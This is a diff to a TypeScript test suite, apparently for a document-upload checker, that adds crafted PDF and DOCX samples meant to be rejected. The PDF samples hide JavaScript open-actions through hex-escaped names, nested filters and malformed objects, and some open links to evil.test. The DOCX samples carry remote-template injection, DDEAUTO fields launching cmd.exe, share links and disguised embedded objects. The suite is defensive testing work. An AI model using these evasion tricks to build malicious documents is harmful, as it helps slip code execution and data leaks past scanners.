@@ -101,6 +101,51 @@ async function pdfs(): Promise<Hostile[]> {
   return all.map(([what, bytes]) => [`pdf: ${what}`, 'a.pdf', bytes])
 }
 
+/** Scripts that a reader (pdf.js was asked) finds and runs, though nothing in the bytes shows them at once. */
+function pdfsInDisguise(): Hostile[] {
+  const script = String.raw`<< /S /J#61vaScript /J#53 (app.alert\(1\)) >>`
+  const packed = (dictionary: string, body = deflateSync(`9 0 ${script}`)) =>
+    makePdf({
+      catalog: '/OpenAction 9 0 R',
+      objects: [objectStream(dictionary, body), '[/FlateDecode /AHx]'],
+    })
+  const hidden = (text: string) => makePdf({ catalog: '/OpenAction 9 0 R', content: Buffer.from(text) })
+  const hex = Buffer.from(`${Buffer.from(`9 0 ${script}`).toString('hex')}>`)
+  const cut = Buffer.from(`9 0 << /A (endstream endobj %) ${script.slice(2)}`)
+  const once = '/Filter /FlateDecode'
+  const all: [string, Buffer][] = [
+    ['behind a word among the brackets', packed(`${once} /X xobj`)],
+    ['behind a word in a list', packed(`${once} /X [ >> endobj ]`)],
+    ['packed, then written in hex', packed('/Filter [/FlateDecode /AHx]', deflateSync(hex))],
+    ['packed twice', packed('/Filter [/Fl /Fl]', deflateSync(deflateSync(`9 0 ${script}`)))],
+    ['packed in a way told elsewhere', packed('/Filter 6 0 R /Y /FlateDecode', deflateSync(hex))],
+    ['packed with parameters told elsewhere', packed(`${once} /DecodeParms 6 0 R`)],
+    ['behind an end in the middle', packed('', cut)],
+    ['behind an end in what is packed', packed(once, deflateSync(cut, { level: 0 }))],
+    ['in a string in which an object begins', packed(once, deflateSync(`9 1 (${script} )`))],
+    [
+      'between two words that are values',
+      makePdf({ catalog: `/X stream /OpenAction ${script} /Y endstream` }),
+    ],
+    ['in an object behind a comment', hidden(`BT ET\n9 0%a\nobj${script}`)],
+    ['in an object without a blank', hidden(`BT ET\n9 0obj${script}`)],
+    ['in an object behind many blanks', hidden(`BT ET\n9 0${' '.repeat(40)}obj${script}`)],
+    ['in an object before many blanks', hidden(`BT ET\n9 0.0obj${' '.repeat(40)}${script}`)],
+    [
+      'an address on opening, packed',
+      packed(once, deflateSync('9 0 << /S /URI /URI (https://evil.test) >>')),
+    ],
+    ['another file on opening', makePdf({ catalog: '/OpenAction << /S /GoToR /F (//evil.test/a) >>' })],
+    ['an address on closing', makePdf({ catalog: '/AA << /WC << /S /URI /URI (https://evil.test) >> >>' })],
+  ]
+  return all.map(([what, bytes]) => [`pdf: script ${what}`, 'a.pdf', bytes])
+}
+
+function objectStream(more: string, body: Buffer): Buffer {
+  const dictionary = `<< /Type /ObjStm /N 1 /First 4 /Length ${body.length} ${more} >>\nstream\n`
+  return Buffer.concat([Buffer.from(dictionary), body, Buffer.from('\nendstream')])
+}
+
 function packedBomb(): Buffer {
   const bomb = deflateSync(Buffer.alloc(40_000_000))
   const dictionary = `<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length ${bomb.length} >>\nstream\n`
@@ -164,6 +209,53 @@ async function docxs(): Promise<Hostile[]> {
     ['the test virus in it', await makeDocx({ 'word/media/a.png': eicar })],
   ]
   return all.map(([what, bytes]) => [`docx: ${what}`, 'a.docx', bytes])
+}
+
+/** What Word takes in or runs all the same, written otherwise than Word writes it. */
+async function docxsInDisguise(): Promise<Hostile[]> {
+  const office = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships'
+  const away = `Type="${office}/attachedTemplate" Target="https://evil.test/a.dotm"`
+  const related = (inner: string) => ({ 'word/_rels/settings.xml.rels': relations(inner) })
+  const linked = (target: string) =>
+    related(`<Relationship Id="r" Type="${office}/hyperlink" Target="${target}" TargetMode="External"/>`)
+  const field = (inner: string) => ({ 'word/document.xml': wordText(`<w:p><w:r>${inner}</w:r></w:p>`) })
+  const compound = Buffer.from('d0cf11e0a1b11ae1', 'hex')
+  const all: [string, Record<string, string | Buffer>][] = [
+    [
+      'a template, its mode with a number',
+      related(`<Relationship Id="r" ${away} TargetMode="&#69;xternal"/>`),
+    ],
+    ['a template behind a bracket', related(`<Relationship Id="a>b" ${away} TargetMode="External"/>`)],
+    ['a template with a prefix', related(`<a-b:Relationship Id="r" ${away} TargetMode="External"/>`)],
+    [
+      'a template that says it is a link',
+      related(`<Relationship a:Type="/hyperlink" ${away} TargetMode="External"/>`),
+    ],
+    ['a link to a program, with a number', linked('&#102;ile:///c:/a.exe')],
+    ['a link to a share', linked(String.raw`\\evil.test\a`)],
+    [
+      'text of another kind to take in',
+      {
+        ...related(`<Relationship Id="r" Type="${office}/aFChunk" Target="/word/a.xml"/>`),
+        'word/a.xml': '<a/>',
+      },
+    ],
+    ['rich text named xml', { 'word/a.xml': String.raw`{\rtf1 {\object\objdata 01}}` }],
+    ['an object named xml', { 'word/a.xml': compound }],
+    ['an object named png', { 'word/media/a.png': compound }],
+    ['a field, its letter a number', field('<w:instrText>&#68;DEAUTO c:\\cmd.exe</w:instrText>')],
+    ['a field with another prefix', field('<x:instrText>DDEAUTO c:\\cmd.exe</x:instrText>')],
+    ['a field as it is', field('<w:instrText><![CDATA[DDE "c:\\cmd.exe"]]></w:instrText>')],
+    [
+      'a field in two parts',
+      field('<w:instrText>DD</w:instrText></w:r><w:r><w:instrText>EAUTO c:\\cmd</w:instrText>'),
+    ],
+    ['a simple field', field(`<w:fldSimple w:instr='"DDE c:\\cmd.exe'/>`)],
+    ['another code', { 'word/settings.xml': '<?xml version="1.0" encoding="IBM037"?><a/>' }],
+  ]
+  return Promise.all(
+    all.map(async ([what, parts]): Promise<Hostile> => [`docx: ${what}`, 'a.docx', await makeDocx(parts)]),
+  )
 }
 
 /** One bit in the packed text of the document. */
@@ -273,7 +365,15 @@ async function disguised(): Promise<Hostile[]> {
 }
 
 test('no hostile document is accepted, each is told why, nothing stays behind', async () => {
-  const all = [...(await pdfs()), ...(await docxs()), ...(await docs()), ...texts(), ...(await disguised())]
+  const all = [
+    ...(await pdfs()),
+    ...pdfsInDisguise(),
+    ...(await docxs()),
+    ...(await docxsInDisguise()),
+    ...(await docs()),
+    ...texts(),
+    ...(await disguised()),
+  ]
   const accepted: string[] = []
   const told = new Map<string, number>()
   for (const [what, name, bytes, given] of all) {
